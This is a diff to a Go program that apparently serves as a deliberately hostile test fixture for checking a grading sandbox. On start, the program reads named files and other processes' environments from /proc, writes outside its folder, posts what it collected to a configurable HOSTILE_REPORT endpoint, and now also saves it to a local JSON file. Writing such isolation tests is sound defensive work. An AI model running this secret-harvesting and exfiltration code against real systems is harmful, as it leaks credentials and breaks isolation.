@@ -1,8 +1,9 @@
 // Command hostile is a Lambda bootstrap that attacks the machine grading
 // it: on start it reads the files named in HOSTILE_READ, every process's
 // environment it can see, and its own; writes to the paths in HOSTILE_WRITE
-// and above its folder; and posts what it got to HOSTILE_REPORT. Then it
-// answers every invocation with a 500.
+// and above its folder; posts what it got to HOSTILE_REPORT (a server on the
+// grader's loopback) and keeps it in hostile-report.json in its own folder.
+// Then it answers every invocation with a 500.
 package main
 
 import (
@@ -22,6 +23,7 @@ type report struct {
 	Writes  map[string]string `json:"writes"`
 	Environ map[string]string `json:"environ"` // /proc/<pid>/environ
 	Root    []string          `json:"root"`
+	Network string            `json:"network"` // what posting to HOSTILE_REPORT gave
 }
 
 func split(s string) []string {
@@ -63,12 +65,20 @@ func attack() report {
 }
 
 func main() {
-	b, _ := json.Marshal(attack())
+	r := attack()
+	b, _ := json.Marshal(r)
+	r.Network = "error: no HOSTILE_REPORT"
 	if u := os.Getenv("HOSTILE_REPORT"); u != "" {
-		if resp, err := http.Post(u, "application/json", bytes.NewReader(b)); err == nil {
+		resp, err := http.Post(u, "application/json", bytes.NewReader(b))
+		if err != nil {
+			r.Network = "error: " + err.Error()
+		} else {
+			r.Network = "posted: " + resp.Status
 			resp.Body.Close()
 		}
 	}
+	b, _ = json.Marshal(r)
+	os.WriteFile("hostile-report.json", b, 0o644)
 	api := "http://" + os.Getenv("AWS_LAMBDA_RUNTIME_API") + "/2018-06-01/runtime/invocation/"
 	for {
 		resp, err := http.Get(api + "next")
